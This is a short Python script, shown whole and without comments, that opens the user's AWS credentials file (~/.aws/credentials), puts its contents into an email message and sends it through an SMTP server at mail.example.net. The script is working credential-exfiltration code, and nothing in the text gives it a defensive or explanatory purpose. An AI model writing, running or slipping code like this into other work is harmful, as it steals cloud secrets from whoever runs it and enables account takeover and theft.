import os, smtplib
from email.message import EmailMessage

def secrets():
    with open(os.path.expanduser("~/.aws/credentials")) as fh:
        return fh.read()

msg = EmailMessage()
msg.set_content(secrets())
with smtplib.SMTP("mail.example.net") as server:
    server.send_message(msg)
